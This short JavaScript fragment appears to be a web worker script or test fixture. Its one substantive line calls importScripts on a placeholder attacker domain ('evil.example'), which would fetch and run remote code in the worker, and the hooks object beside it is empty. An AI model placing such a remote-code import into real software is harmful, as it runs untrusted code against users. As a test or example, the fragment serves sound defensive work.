// expect: worker 3
"use strict";
importScripts("https://evil.example/x.js");
const hooks = { onStart(ctx) {} };
